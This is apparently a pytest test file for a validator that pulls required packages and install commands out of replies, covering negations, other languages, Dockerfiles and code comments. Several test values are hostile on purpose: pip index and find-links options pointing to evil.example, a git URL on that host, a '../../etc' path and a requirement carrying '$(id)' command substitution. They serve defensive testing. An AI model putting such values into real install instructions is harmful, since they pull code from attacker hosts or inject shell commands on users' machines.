"""What a reply says has to be installed, and the commands it shows, word for word."""

from __future__ import annotations

import pytest

from validator.facts import Part, Reply, RequirementSource, Submission
from validator.reading import read


def reading(text: str) -> Submission:
    return read(Reply((Part(text, "reply.md"),)))


def stated(text: str) -> list[str]:
    return [line.text for line in reading(text).requirements]


@pytest.mark.parametrize(
    "text",
    [
        "```\npygame==2.1.2\n```\n",
        "```requirements.txt\npygame==2.1.2\n```\n",
        "requirements.txt:\n```\npygame==2.1.2\n```\n",
        "**requirements.txt**\n\n```text\n# the game\npygame==2.1.2  # for the window\n```\n",
        "```bash\npip install pygame==2.1.2\n```\n",
        "```\n$ pip3 install --upgrade pygame==2.1.2\n```\n",
        "```bash\npython -m pip install -q 'pygame==2.1.2' && python game.py\n```\n",
        "```python\n!pip install pygame==2.1.2\n```\n",
        "```bash\nuv add pygame==2.1.2\n```\n",
        "First run `pip install pygame==2.1.2` in a terminal.\n",
        "First run pip install pygame==2.1.2 in a terminal.\n",
    ],
)
def test_a_requirement_is_found_wherever_it_is_stated(text):
    assert stated(text) == ["pygame==2.1.2"]


def test_a_list_of_bare_names_is_requirements_where_the_reply_says_so():
    assert stated("requirements.txt\n\n```\nnumpy\npandas\n```\n") == ["numpy", "pandas"]


def test_bare_words_are_not_requirements():
    assert stated("```\nnumpy\npandas\n```\n") == []


def test_each_package_of_a_command_is_a_line_with_its_place():
    (first, second) = reading(
        "Install:\n```bash\npip install flask 'rich[jupyter]>=13'\n```\n"
    ).requirements
    assert (first.text, second.text) == ("flask", "rich[jupyter]>=13")
    assert first.span.first == second.span.first == 3
    assert first.source is RequirementSource.COMMAND


def test_options_that_change_what_is_installed_are_kept_for_the_rules():
    text = "```bash\npip install --index-url https://evil.example -r requirements.txt flask\n```\n"
    assert stated(text) == ["--index-url https://evil.example", "flask"]


def test_hostile_lines_come_through_as_text_for_the_rules_to_refuse():
    lines = ["-e ../../etc", "git+https://evil.example/x.git", "flask==3.0 ; $(id)"]
    assert stated("requirements.txt\n```\n" + "\n".join(lines) + "\n```\n") == lines


def test_commands_lose_their_prompts_and_continued_lines_are_one():
    text = "```console\n(venv) user@host:~/game$ pip install \\\n    flask\n$ python app.py\n```\n"
    found = reading(text)
    assert [command.text for command in found.commands] == ["pip install flask", "python app.py"]
    assert (found.commands[0].span.first, found.commands[0].span.last) == (2, 3)


@pytest.mark.parametrize(
    "text",
    [
        "You can pip install the package you need.",
        "There is no need to pip install anything.",
        "The pip install command takes names.",
        "A conda install of Python is enough.",
        "Use `x == 1` to compare.",
        "The `python` interpreter and `pip` are needed.",
    ],
)
def test_prose_installs_nothing(text):
    assert stated(text) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Run pip install pygame first.", ["pygame"]),
        ("Run pip install pygame before running the game with click.", ["pygame"]),
        ("pip install pygame and enjoy!", ["pygame"]),
        ("pip install pygame, then open it.", ["pygame"]),
        ("pip install pygame downloads wheels.", ["pygame"]),
        ("Run pip install pygame manually", ["pygame"]),
        ("Just pip install requests>=2 rich<14 to begin.", ["requests>=2", "rich<14"]),
        ("Run pip install flask, requests and rich.", ["flask", "requests", "rich"]),
        ("- pip install flask requests", ["flask", "requests"]),
        ("Install it (pip install flask requests) and go on.", ["flask", "requests"]),
        ("**pip install -U rich**", ["rich"]),
        ("Run “pip install flask requests” first.", ["flask", "requests"]),
        ("Run 'pip install \"rich>=13\" flask' now.", ["rich>=13", "flask"]),
        ("You may uv add rich, or poetry add rich now.", ["rich"]),
        ("With conda install rich it works as well.", ["rich"]),
        ("`pip install flask first` is all.", ["flask", "first"]),
        ("Run `main.py` after pip install rich.", ["rich"]),
    ],
)
def test_a_sentence_goes_on_about_something_else(text, expected):
    assert stated(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Do not run `pip install jwt`. Run `pip install PyJWT`.", ["PyJWT"]),
        ("Never run pip install sklearn, run pip install scikit-learn.", ["scikit-learn"]),
        ("Instead of `pip install jwt`, use `pip install PyJWT`.", ["PyJWT"]),
        ("Use `pip install PyJWT`, not `pip install jwt`.", ["PyJWT"]),
        ("Don’t use `pip install jwt` or `pip install jose`.", []),
        ("Do not run `./venv/bin/pip -q install jwt`.", []),
        ("You don't need `pip install tkinter`.", []),
        ("It runs without `pip install tkinter`.", []),
        ("tkinter can't be installed with `pip install tkinter`.", []),
        ("`pip install tkinter` is not needed, and `pip install tk` won't work.", []),
        ("If pip install pygame fails, upgrade Python.", []),
        # What only looks like it.
        ("It will not start without `pip install pygame`.", ["pygame"]),
        ("Don't forget to run `pip install pygame`.", ["pygame"]),
        ("If you have not yet run `pip install pygame`, do so.", ["pygame"]),
        ("If you don't run `pip install pygame` first, it ends.", ["pygame"]),
        ("It is not hard: run `pip install pygame`.", ["pygame"]),
        ("Not `pip install jwt`, `pip install PyJWT`.", ["PyJWT"]),
        ("As pygame isn't installed use `pip install pygame`.", ["pygame"]),
        ("It is not enough to run `pip install pygame`.", ["pygame"]),
        ("If it's not installed use pip install pygame.", ["pygame"]),
        ("Why not `pip install pygame`?", ["pygame"]),
        ("`pip install pygame` is not enough; run `pip install numpy`, too.", ["pygame", "numpy"]),
    ],
)
def test_a_command_that_is_not_to_be_run_installs_nothing(text, expected):
    assert stated(text) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("pip -q install six", ["six"]),
        ("./venv/bin/pip install six", ["six"]),
        (".\\venv\\Scripts\\pip.exe install six", ["six"]),
        ("/usr/bin/python3 -m pip install six", ["six"]),
        ("py -3.11 -m pip install six", ["six"]),
        ("(venv) pip install six", ["six"]),
        ("PS C:\\game> pip install six", ["six"]),
        ("PIP_NO_CACHE_DIR=1 pip install six", ["six"]),
        ("sudo -H pip3 install six", ["six"]),
        ("pip install `\n  six `\n  rich", ["six", "rich"]),
        ("pip install ^\n  six ^\n  rich", ["six", "rich"]),
        ("conda create -n game six", ["six"]),
        ("micromamba install six", ["six"]),
        ("uv run --with rich --with 'six>=1,<2,flask' app.py --with no",
         ["rich", "six>=1,<2", "flask"]),
        ("uvx --with=six tool", ["six"]),
        ("pip install 'tomli; python_version < \"3.11\"' six",
         ['tomli; python_version < "3.11"', "six"]),
        ("pip install 'a&&b' && pip install six | tee log", ["a&&b", "six"]),
        ("pip install <your package> six", ["six"]),
        ("pip install 'six<3,>2'", ["six<3,>2"]),
        ("pip install --trusted-host pypi.org six", ["six"]),
        # Of other tools, or nothing to install.
        ("npm install express", []),
        ("pip download six", []),
        ("uv run app.py --with six", []),
        ("git add six", []),
        ("python create.py six", []),
    ],
)  # fmt: skip
def test_what_commands_ask_for(command, expected):
    assert stated(f"```bash\n{command}\n```\n") == expected


@pytest.mark.parametrize(
    ("options", "kept"),
    [
        ("--index-url=https://evil.example/simple", "--index-url=https://evil.example/simple"),
        ("--find-links https://evil.example", "--find-links https://evil.example"),
        ("-fhttps://evil.example", "-f https://evil.example"),
        ("--no-binary :all:", "--no-binary :all:"),
        ("--no-binary=:all:", "--no-binary=:all:"),
    ],
)
def test_no_option_that_changes_what_is_installed_is_lost(options, kept):
    assert stated(f"```bash\npip install {options} six\n```\n") == [kept, "six"]


def test_a_dockerfile_installs_in_its_run_lines():
    text = (
        "```dockerfile\nFROM python:3.11\nRUN --mount=type=cache pip install --pre six \\\n"
        "    # for the colours\n    rich\nRUN echo install\nCMD pip install flask\n```\n"
    )
    assert stated(text) == ["six", "rich"]


def test_a_line_with_hashes_is_one_line():
    text = f"requirements.txt\n```\nsix==1.16.0 \\\n    --hash=sha256:{'ab' * 32}\nrich\n```\n"
    first, second = reading(text).requirements
    assert (first.text, first.stated) == (f"six==1.16.0 --hash=sha256:{'ab' * 32}", "six==1.16.0")
    assert (first.span.first, first.span.last, second.text) == (3, 4, "rich")


@pytest.mark.parametrize(
    "code",
    [
        "# pip install pygame==2.1.2\nimport pygame\n",
        "import pygame  # pip install pygame==2.1.2\n",
        "#!pip install pygame==2.1.2\nimport pygame\n",
        "# Requires: `pip install pygame==2.1.2`\nimport pygame\n",
        '"""A game.\n\nRequirements:\n    pip install pygame==2.1.2\n"""\nimport pygame\n',
        "# pip install pygame==2.1.2\nimport pygame\ndef broken(:\n",
    ],
)
def test_what_comments_and_a_description_say_to_install_is_required(code):
    assert stated(f"```python\n{code}```\n") == ["pygame==2.1.2"]


@pytest.mark.parametrize("behind", ["", "  # for the plots", " ## both", "  # pip install them"])
def test_all_of_a_command_in_a_comment_counts_whatever_is_said_behind_it(behind):
    code = f"# pip install numpy pandas{behind}\nimport numpy\n"
    assert stated(f"```python\n{code}```\n")[:2] == ["numpy", "pandas"]


@pytest.mark.parametrize(
    "code",
    [
        "# Do not pip install pygame here\nprint(1)\n",
        "# instead of pip install pygame\nprint(1)\n",
        'print("# pip install pygame")\n',
        'README = """\n# pip install pygame\n"""\nprint(README)\n',
        "def install(add):  # add the install step\n    return add\n",
        "# pip install -r requirements.txt\nprint(1)\n",
        "# Optional, for colours: pip install pygame\nprint(1)\n",
        "try:\n    import pygame  # pip install pygame\nexcept ImportError:\n    pygame = None\n",
    ],
)
def test_what_a_program_says_itself_and_what_is_denied_is_not_required(code):
    assert stated(f"```python\n{code}```\n") == []


@pytest.mark.parametrize(
    "text",
    [
        "Achtung: nicht `pip install serial`, sondern `pip install pyserial`.\n",
        "N'utilisez pas `pip install serial`, mais `pip install pyserial`.\n",
        "Au lieu de `pip install serial`, tapez `pip install pyserial`.\n",
        "No uses `pip install serial`; usa `pip install pyserial`.\n",
        "Non usare `pip install serial`: usa `pip install pyserial`.\n",
        "Em vez de `pip install serial`, use `pip install pyserial`.\n",
        "Не используйте `pip install serial`, а `pip install pyserial`.\n",
        "\u4e0d\u8981\u4f7f\u7528 `pip install serial`\uff0c\u7528 `pip install pyserial`\u3002\n",
        "`pip install serial` \u3067\u306f\u306a\u304f `pip install pyserial` \u3092\u5b9f\u884c\n",
    ],
)
def test_a_denial_is_heard_in_other_languages(text):
    assert stated(text) == ["pyserial"]


@pytest.mark.parametrize(
    "text",
    [
        "Falls es noch nicht installiert ist: `pip install pyserial`\n",
        "Wenn es nicht da ist, `pip install pyserial` ausf\u00fchren.\n",
        "Si vous ne l'avez pas, `pip install pyserial`.\n",
        "Si no est\u00e1 instalado, usa `pip install pyserial`.\n",
        "Wenn noch nicht `pip install pyserial` gelaufen ist, hole das nach.\n",
        "\u5982\u679c\u6ca1\u6709\uff0c\u8bf7\u8fd0\u884c `pip install pyserial`\u3002\n",
    ],
)
def test_a_condition_in_other_languages_denies_nothing(text):
    assert stated(text) == ["pyserial"]
